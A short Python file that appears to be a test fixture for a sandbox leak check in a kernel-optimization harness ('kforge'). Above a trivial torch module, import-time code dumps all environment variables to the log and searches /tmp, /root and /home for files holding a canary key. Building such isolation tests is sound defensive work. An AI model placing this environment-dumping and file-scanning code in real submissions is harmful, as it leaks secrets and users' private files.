import json
import os

import torch.nn as nn

# Leaks the environment it sees into its own output log, where a test looks for secrets.
print("ENVIRON-DUMP " + json.dumps(dict(os.environ)))
# Looks for kforge's config (and any file holding the value of the test's canary key)
# wherever a user's files usually are. The value, not the word: other candidates' sources in the
# shared build cache search for the word themselves.
for root in ("/tmp", "/root", "/home"):
    for dirpath, _, files in os.walk(root):
        for name in files:
            path = os.path.join(dirpath, name)
            try:
                with open(path, errors="replace") as f:
                    if "sk-kforge-" + "canary-" in f.read(1 << 20):
                        print("FOUND-CANARY-IN " + path)
            except OSError:
                pass


class ModelNew(nn.Module):
    def __init__(self, scale):
        super().__init__()
        self.scale = scale

    def forward(self, a, b):
        return a * self.scale + b
